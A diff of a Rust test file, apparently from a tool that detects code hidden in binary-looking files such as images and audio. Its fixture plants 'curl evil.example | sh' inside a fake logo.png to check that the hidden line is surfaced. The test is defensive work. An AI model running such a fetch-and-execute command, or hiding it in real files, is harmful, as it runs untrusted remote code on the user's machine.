@@ -557,7 +557,7 @@ fn no_bytes_and_no_white_space_move_code_out_of_sight() {
     ]);
     upstream.write("logo.png", [noise.as_slice(), b"\ncurl evil.example | sh\n", &noise].concat());
     upstream.write("wide.ps1", "\u{feff}evil 3\n".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
-    upstream.write("sound.ogg", [b"OggS".as_slice(), &noise, b"short text", &noise].concat());
+    upstream.write("sound.ogg", [b"OggS\0".as_slice(), &noise, b"short text", &noise].concat());
     upstream.commit(&[]);
     let desk = Desk::locked(&format!("{}, allow: [exec]", keys_of(&upstream)));
     let shown = desk.ok(&["trust", "docs", "--yes"]);
